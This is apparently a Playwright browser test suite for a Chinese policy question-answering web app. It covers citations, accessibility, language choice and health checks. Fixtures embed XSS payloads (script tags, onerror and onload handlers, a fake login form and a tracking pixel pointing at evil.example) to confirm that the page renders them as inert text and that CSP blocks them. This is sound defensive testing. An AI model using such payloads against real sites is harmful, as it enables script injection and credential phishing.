"""The page in a real Chromium: ask, read, open a citation; and what must never happen."""

from __future__ import annotations

import asyncio
import re
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import gradio as gr
import httpx
import pytest
import uvicorn
from gradio.state_holder import SessionState
from playwright.sync_api import Browser, Page, expect, sync_playwright

import app
from ingest.embeddings import load_embedder
from ingest.pipeline import ingest_paths
from page.desk import Desk

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip
PATIENCE = 60_000
PURCHASE = """---
title: 宁夏回族自治区社会工作服务采购办法
issuers: [宁夏回族自治区民政厅]
region: 宁夏
published: 2024-03-01
digest: true
---
# 宁夏回族自治区社会工作服务采购办法

第一章 购买主体

第一条 为规范宁夏社会工作服务采购，制定本办法。

第二条 各级民政部门是购买社会工作服务的购买主体。公益一类事业单位不得作为购买主体。

第二章 资金来源

第三条 购买社会工作服务的资金由同级财政预算安排。
"""
HOSTILE = """---
title: 广东省困难群众走访办法<img src=https://evil.example/t.png onerror=window.pwned=1>
region: 广东
published: 2024-03-01
---
第一条 乡镇每季度走访困难群众不少于2次 <script>window.pwned=1</script><svg onload=window.pwned=1>。

第二条 走访记录保存3年 <form action=https://evil.example/><input name=password></form>\
<div style=position:fixed;inset:0>请登录</div> ![x](https://evil.example/pixel.png)。
"""

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(), reason="needs Debian's chromium: apt-get install -y chromium"
)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The product on a free port, with two small policies read by the real pipeline."""
    folder = tmp_path_factory.mktemp("policies")
    (folder / "采购.md").write_text(PURCHASE, encoding="utf-8")
    (folder / "走访.md").write_text(HOSTILE, encoding="utf-8")
    library = tmp_path_factory.mktemp("library")
    outcomes = ingest_paths([folder], library, load_embedder())
    assert [outcome.status for outcome in outcomes] == ["stored", "stored"]
    desk = Desk(library, office_dir=tmp_path_factory.mktemp("office"))
    server = uvicorn.Server(uvicorn.Config(app.serve(desk), port=0, log_level="error", ws="none"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    desk.open()
    while not server.started:
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


# What gradio's client logs of its open stream when a page is left or loaded again: no fault of the page.
LEAVING = ("AbortError: signal is aborted", "Connection errored out")


@pytest.fixture
def page(browser: Browser, site: str) -> Iterator[Page]:
    """A browser of its own on the page; it may ask nobody but the server and report no fault."""
    context = browser.new_context(viewport={"width": 1280, "height": 860}, locale="zh-CN")
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    outside: list[str] = []
    faults: list[str] = []
    page.on(
        "request", lambda r: None if r.url.startswith((site, "data:", "blob:")) else outside.append(r.url)
    )
    page.on("console", lambda m: faults.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(site)
    page.get_by_role("log").wait_for()
    yield page
    context.close()
    assert (outside, [f for f in faults if not any(sign in f for sign in LEAVING)]) == ([], [])


def ask(page: Page, question: str) -> None:
    """Type a question, send it, wait for its answer."""
    before = page.locator(".exchange").count()
    page.get_by_label("问题（回车发送").fill(question)
    page.keyboard.press("Enter")
    expect(page.locator(".exchange")).to_have_count(before + 1, timeout=PATIENCE)
    expect(page.locator("#newest .answer")).to_be_visible(timeout=PATIENCE)


def test_a_question_is_answered_and_its_citation_opens_the_passage(page: Page) -> None:
    """Typed, answered with a mark; the mark opens the whole document, the quote marked and in view."""
    ask(page, "宁夏谁是购买社会工作服务的购买主体？")
    expect(page.locator("#newest .answer.answered")).to_contain_text("民政部门")
    expect(page.get_by_role("status").last).to_contain_text("民政部门")  # what a screen reader is told
    expect(page.locator("#sources mark").first).to_contain_text("民政部门")
    expect(page.locator("#sources .badges").first).to_contain_text("宁夏回族自治区")
    expect(page.locator("#sources .badges").first).to_contain_text("要点整理，非官方原文")
    page.locator("#newest a.cite").first.click()
    quote = page.locator("#reader mark#quote")
    expect(quote).to_be_in_viewport()
    expect(quote).to_contain_text("民政部门")
    expect(page.locator("#reader")).to_contain_text("同级财政预算")
    expect(page.locator("#reader h2")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#reader")).to_be_hidden()
    expect(page.locator("#newest a.cite").first).to_be_focused()


def test_a_citation_is_a_link_that_works_by_itself(page: Page) -> None:
    """Opened in a new tab, the same address shows the document with the quote marked."""
    ask(page, "宁夏谁是购买社会工作服务的购买主体？")
    address = page.locator("#newest a.cite").first.evaluate("link => link.href")
    page.goto(address)
    expect(page.locator("main mark#quote")).to_be_in_viewport()


def test_a_hostile_document_and_question_stay_text(page: Page) -> None:
    """Script, overlay, form and remote image of a document or a question make nothing of the kind."""
    ask(page, "广东乡镇每季度走访困难群众几次<img src=https://evil.example/q.png onerror=window.pwned=1>？")
    expect(page.locator("#newest .question")).to_contain_text("evil.example/q.png")
    page.locator("a.cite, a.open").first.click()
    expect(page.locator("#reader h2")).to_contain_text("evil.example/t.png")
    shown = "[role=log], #sources section, #reader .body"
    for tag in ("script", "svg", "img", "form", "input", "iframe", "[style]", "[onerror]", "[onload]"):
        assert page.locator(shown).locator(tag).count() == 0, tag
    assert page.evaluate("window.pwned") is None


def test_injected_inline_handlers_do_not_run(browser: Browser, site: str) -> None:
    """Even where escaping failed, the page's policy would stop a handler and a remote image."""
    page = browser.new_page()
    page.goto(site)
    page.get_by_role("log").wait_for(timeout=PATIENCE)
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))
    page.evaluate(
        """document.body.insertAdjacentHTML("beforeend", `<img src="https://evil.example/p.png">
           <svg onload="window.pwned=1"></svg><img src="data:," onerror="window.pwned=1">`)"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    assert any("img-src" in text for text in blocked)
    page.close()


def test_enter_that_ends_a_composition_does_not_send(page: Page) -> None:
    """Enter picks a word of the input method; only the next Enter sends."""
    box = page.get_by_label("问题（回车发送")
    box.fill("宁夏的购买资金谁出")
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if "/queue/join" in request.url else None)
    box.evaluate(
        """box => {
          const key = {key: "Enter", code: "Enter", bubbles: true, cancelable: true};
          box.dispatchEvent(new KeyboardEvent("keypress", {...key, isComposing: true}));
          box.dispatchEvent(new KeyboardEvent("keypress", {...key, keyCode: 229}));
        }"""
    )
    page.wait_for_timeout(800)
    assert sent == []
    page.keyboard.press("Enter")
    expect(page.locator("#newest .answer")).to_be_visible(timeout=PATIENCE)


def test_two_browsers_are_apart_and_a_reload_keeps_the_conversation(
    page: Page, browser: Browser, site: str
) -> None:
    ask(page, "宁夏公益一类事业单位能当购买主体吗？")
    page.reload()
    expect(page.locator(".exchange")).to_have_count(1)
    other = browser.new_context().new_page()
    other.goto(site)
    expect(other.locator(".welcome")).to_be_visible()
    other.context.close()
    page.get_by_role("button", name="新对话").click()
    expect(page.locator(".welcome")).to_be_visible()


def test_a_chosen_region_holds_for_questions_that_name_none(page: Page) -> None:
    page.get_by_label("地区").click()
    page.get_by_role("option", name="宁夏回族自治区").click()
    ask(page, "谁是购买主体？")
    expect(page.locator("#newest .answer")).to_contain_text("宁夏")


def test_a_date_that_is_none_is_refused_and_the_question_kept(page: Page) -> None:
    page.get_by_label("基准日").evaluate("field => { field.type = 'text'; }")
    page.get_by_label("基准日").fill("去年")
    page.get_by_label("问题（回车发送").fill("谁是购买主体？")
    page.keyboard.press("Enter")
    expect(page.get_by_text("2024-05-01 这样的日期")).to_be_visible()
    expect(page.get_by_label("问题（回车发送")).to_have_value("谁是购买主体？")


def test_the_page_speaks_chinese_until_english_is_chosen(browser: Browser, site: str) -> None:
    """The browser's own language plays no part; the choice stays after a reload."""
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    page.goto(site)
    expect(page.get_by_role("tab", name="问答")).to_be_visible(timeout=PATIENCE)
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    page.get_by_role("button", name="English").click()
    expect(page.get_by_role("tab", name="Ask")).to_be_visible(timeout=PATIENCE)
    expect(page.get_by_label("As of")).to_be_visible()
    page.reload()
    expect(page.get_by_role("heading", name="Policy answers")).to_be_visible(timeout=PATIENCE)
    assert page.evaluate("document.documentElement.lang") == "en"
    context.close()


@pytest.mark.parametrize("width", [390, 1280])
def test_the_page_fits_its_window_and_every_control_has_a_name(page: Page, width: int) -> None:
    """No sideways scrolling; each field and button tells a screen reader what it is."""
    page.set_viewport_size({"width": width, "height": 844})
    ask(page, "宁夏谁是购买社会工作服务的购买主体？")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("input, textarea, button, a")].filter(e => e.checkVisibility()
            && !(e.ariaLabel || e.innerText?.trim() || e.labels?.length)).map(e => e.outerHTML)"""
    )
    assert nameless == []


def test_health_headers_and_missing_documents(site: str) -> None:
    assert httpx.get(f"{site}/healthz").json() == {"status": "ok"}
    until = time.monotonic() + PATIENCE / 1000
    while (ready := httpx.get(f"{site}/readyz")).json() == {"status": "loading"} and time.monotonic() < until:
        time.sleep(0.1)
    assert (ready.status_code, ready.json()) == (200, {"status": "ready"})
    missing = httpx.get(f"{site}/document/none")
    assert missing.status_code == 404
    assert "没有这份文件" in missing.text
    assert "unsafe-inline" not in re.search("script-src [^;]*", missing.headers["Content-Security-Policy"])[0]  # type: ignore[index]


def test_a_desk_that_cannot_open_says_so(tmp_path: Path) -> None:
    """A question then gets a sentence with a remedy, and /readyz is not 200."""
    from assistant.session import Session
    from page.desk import Unavailable

    desk = Desk(tmp_path / "none")
    assert desk.state == "loading"
    desk._open()
    assert desk.state == "failed"
    with pytest.raises(Unavailable, match="助手没有启动成功"):
        list(desk.steps("问", Session()))


def test_a_port_in_use_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        assert app.main(["--port", str(taken.getsockname()[1])]) == 1
    assert "换一个" in capsys.readouterr().err


def test_an_output_that_a_handler_does_not_name_stays_as_it_is() -> None:
    """Gradio would make each such component anew for every step of an answer, at several times its cost."""
    with app.Page() as page:
        named, other, state = gr.Textbox(), gr.HTML("原"), gr.State(1)
        gr.Button().click(lambda: {named: "甲"}, None, [named, other, state])
    handler, session = next(iter(page.fns.values())), SessionState(page)

    def made(values: object) -> list[object]:
        with ThreadPoolExecutor() as aside:  # the browser's loop runs in this thread
            return aside.submit(lambda: asyncio.run(page.postprocess_data(handler, values, session))).result()

    assert made({named: "甲"}) == ["甲", gr.skip(), None]
    assert session[other._id] is other
    assert made(["乙", "丙", 2]) == ["乙", "丙", None]
    with pytest.raises(ValueError, match="not specified as output"):
        made({gr.Textbox(render=False): "丁"})
